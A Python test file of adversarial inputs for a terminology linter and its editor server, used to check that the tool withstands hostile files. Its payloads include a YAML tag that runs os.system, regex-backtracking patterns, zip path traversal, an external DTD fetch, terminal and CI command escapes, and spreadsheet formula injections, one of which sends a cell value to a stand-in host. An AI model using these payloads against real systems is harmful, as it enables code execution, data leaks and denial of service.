"""Terms files, e-books, catalogues and texts of strangers → the lint and the editor's server say what is wrong, and end."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from importlib.util import find_spec
from pathlib import Path

from attempt import Attempt

HOME = Path(str(getattr(find_spec("pamphleteer"), "origin", ""))).parent.parent

GAPS = (
    "- preferred: cramp\n  avoid:\n    - word: freeze "
    + "… " * 24
    + "ankle\n    - word: take [a|the|my] "
    + "[a|the|my] " * 24
    + "knee\n"
)

WORDS = (
    "Knees and ankles. Freeze " + "take a a the my " * 300 + "end. " + "Freeze " + "word " * 400 + "end.\n"
)


def archive(**files: str | bytes) -> bytes:
    """A zip file with these entries; `_` in front stands for an odd name."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        made.writestr("mimetype", "application/epub+zip")
        for name, text in files.items():
            made.writestr(name, text)
    return stream.getvalue()


CONTAINER = (
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles>'
    '<rootfile full-path="{}" media-type="application/oebps-package+xml"/></rootfiles></container>'
)

PACKAGE = (
    '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
    '<dc:identifier id="i">x</dc:identifier><dc:title>T</dc:title><dc:language>en</dc:language></metadata><manifest>'
    '<item id="a" href="{}" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>'
)

PAGE = '<html xmlns="http://www.w3.org/1999/xhtml"><body>{}</body></html>'


def book(name: str, page: str | bytes) -> bytes:
    """An e-book of one page."""
    return archive(
        **{"META-INF/container.xml": CONTAINER.format("p.opf"), "p.opf": PACKAGE.format(name), name: page}
    )


def editor_ends(folder: Path) -> str:
    """Whether the server of an editor is through with each text in a minute."""
    code = (
        "import sys; from pathlib import Path; from pamphleteer.lint.server import findings_in\n"
        "for path in sorted(Path(sys.argv[1]).glob('*.*')):\n    path.suffix in {'.md', '.rst', '.txt'} and findings_in(path.read_text('utf-8'), str(path))\n"
    )
    environment = {**os.environ, "PYTHONPATH": str(HOME)}
    try:
        done = subprocess.run(
            [sys.executable, "-P", "-c", code, str(folder / "edited/in")],
            capture_output=True,
            timeout=60,
            check=False,
            cwd=folder,
            env=environment,
        )
    except subprocess.TimeoutExpired:
        return "the server works on a short text for more than a minute"
    return done.stderr.decode(errors="replace")[-300:] if done.returncode else ""


TERMS = {
    "deep": "[" * 3000,
    "itself": "- &a\n  preferred: x\n  avoid: *a\n",
    "class": "- class: a\n  words: [<a>, '<b>|<a>', '']\n- preferred: x\n  avoid: ['<a> <a>', '[', ']', '[]', '<>', '|', '=', '…', '[…]', '(((', '\\', \"\\0\", 'a|', '||', '[a|]']\n",
    "wide": "- preferred: x\n  avoid:\n" + "".join(f"    - {'|'.join(f'a{n}b{m}' for m in range(300))} {'[x|y] ' * 30}z\n" for n in range(20)),
    "types": "- preferred: [a]\n- preferred: {a: b}\n  avoid: 5\n- 7\n- preferred: null\n  avoid: [null, 1, 2026-11-28, !!binary AAAA]\n  only_when: {sentence: 5, nosuch: [x]}\n  translations: [x]\n",
    "examples": "- preferred: x\n  avoid: [y]\n  wrong: ['" + "y | " * 2000 + "', '# | | #', '|', ' ']\n  right: [\"\\x1b]0;x\\x07::error::y\"]\n",
    "tags": "- !!python/object/apply:os.system ['touch {RAN}']\n- !nosuch {preferred: x, avoid: [y]}\n",
    "merge": "- &b {preferred: x, avoid: [y]}\n- {<<: *b, preferred: z, preferred: w}\n- <<: 5\n",
    "documents": "- preferred: x\n  avoid: [y]\n---\n- preferred: z\n...\n%YAML 3.0\n--- !\n",
    "letters": '- preferred: "\\ud800"\n  avoid: ["\\udfff", "\\0", "a\\u2028b", "\u202ec"]\n  language: ../../x\n  translations: {"\\x1b[8m": {say: [x], avoid: [y]}}\n',
}  # fmt: skip

FORMULAS = (
    '=HYPERLINK("http://e.test/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)

SHEET = "".join(f"- preferred: {json.dumps(form)}\n  definition: {json.dumps(form)}\n  avoid:\n    - word: word{n}x\n" for n, form in enumerate(FORMULAS))  # fmt: skip


def formulas(folder: Path) -> str:
    """Whether a cell of the table is a formula for a program of tables."""
    path = folder / "_build/terms.csv"
    if not path.is_file():
        return ""
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    wrong = [cell for cell in cells if cell.lstrip("\t\r\n ")[:1] in {"=", "+", "-", "@"} and len(cell) > 1]
    return f"a cell is a formula: {wrong[0]!r}" if wrong else ""


def pipes(folder: Path) -> None:
    """Pipes, a link to nothing, a folder and a link out of the project, called like texts."""
    place = folder / "texts"
    for name in ("pipe.md", "pipe.epub", "pipe.po"):
        os.mkfifo(place / name)
    (place / "folder.md").mkdir()
    (place / "dead.txt").symlink_to("none.txt")
    (place / "out.md").symlink_to(folder.parent / "outside/secret.md")
    (place / "outside").symlink_to(folder.parent / "outside")
    (place / "round").symlink_to(".")


ATTEMPTS: tuple[Attempt, ...] = (
    Attempt(
        "gaps-without-end",
        "lint-and-editor",
        "writes words to avoid with so many gaps and choices that a text is searched for them in endless ways",
        {
            "book/terms.yml": GAPS,
            "book/chapter.md": f"# Chapter\n\n{WORDS}\n",
            "edited/in/terms.yml": GAPS,
            "edited/in/a.md": WORDS,
        },
        (("terms", "check"), ("lint", "book/chapter.md")),
        shares=False,
        holds=editor_ends,
    ),
    Attempt(
        "terms-deep-within-each-other",
        "lint-and-editor",
        "nests a terms file and a file of settings of a table of terms deeper than a reader follows",
        {
            "book/terms.yml": "[" * 20_000,
            "edited/in/terms.yml": "- preferred: " + "{a: " * 5_000,
            "edited/in/a.md": "Words.\n",
            "deep.tbx": "<tbx>" + "<text>" * 5_000,
            "deep.yml": "- &a [*a, *a]\n- preferred: *a\n  ? [[], {}]\n  : x\n",
        },
        (
            ("lint",),
            ("terms", "check"),
            ("terms", "check", "deep.yml"),
            ("terms", "export", "_build/x.tbx"),
            ("terms", "import", "deep.tbx"),
        ),
        shares=False,
        holds=editor_ends,
    ),
    Attempt(
        "books-with-odd-entries",
        "lint-and-editor",
        "brings e-books whose entries have names that conceal, and pages of no text, of endless depth and of other encodings",
        {
            "a.epub": archive(**{"../\x1b[8m hidden": "x"}),
            "b.epub": book("a.xhtml", b"\xff\xfe<\0h\0t\0m\0l\0>\0"),
            "c.epub": book("a.xhtml", PAGE.format("<i>" * 900 + "x" + "</i>" * 900)),
            "d.epub": book(
                "a.xhtml",
                PAGE.format("<p>Words words.</p>").replace(
                    "<html", "<!DOCTYPE html SYSTEM '{SERVER}/x.dtd'><html"
                ),
            ),
            "e.epub": archive(**{"META-INF/container.xml": CONTAINER.format("../../outside/secret.txt")}),
            "f.epub": archive(
                **{
                    "META-INF/container.xml": CONTAINER.format("p.opf"),
                    "p.opf": PACKAGE.format("\x1b[8m::add-mask::x"),
                }
            ),
            "g.epub": book("a.xhtml", b""),
            "h.epub": book("a.xhtml", b"<!-- -->"),
        },
        tuple(("lint", f"{name}.epub") for name in "abcdefgh"),
        shares=False,
    ),
    Attempt(
        name="terms-that-contain-themselves",
        kind="lint-and-editor",
        tries="Terms files are nested, refer to themselves, hold values of every type, and patterns that are none or thousands.",
        files={
            **{f"texts/{name}/terms.yml": text for name, text in TERMS.items()},
            **{f"texts/{name}/a.txt": "Rest the leg x y z a0b0 for two days.\n" for name in TERMS},
        },
        commands=tuple(
            words
            for name in TERMS
            for words in (("terms", "check", f"texts/{name}/terms.yml"), ("lint", f"texts/{name}"))
        ),
        shares=False,
    ),
    Attempt(
        name="table-of-formulas",
        kind="lint-and-editor",
        tries="Terms begin as formulas do: exported as a table, they act in the program of tables that a translator opens it with.",
        files={"book/terms.yml": SHEET},
        commands=(("terms", "export", "_build/terms.csv"),),
        prepare=lambda folder: (folder / "_build").mkdir(exist_ok=True),
        shares=False,
        holds=formulas,
    ),
    Attempt(
        name="texts-that-are-pipes-and-links",
        kind="lint-and-editor",
        tries="A folder of texts holds pipes, a folder with the name of a text, and links out of it: the lint waits, ends, or shows what is elsewhere.",
        files={"texts/a.md": "# A\n\nRest the the leg for two days.\n"},
        commands=(("lint", "texts"), ("lint", "--diff", "texts"), ("lint", "--against", "texts", "book")),
        prepare=pipes,
        shares=False,
    ),
)
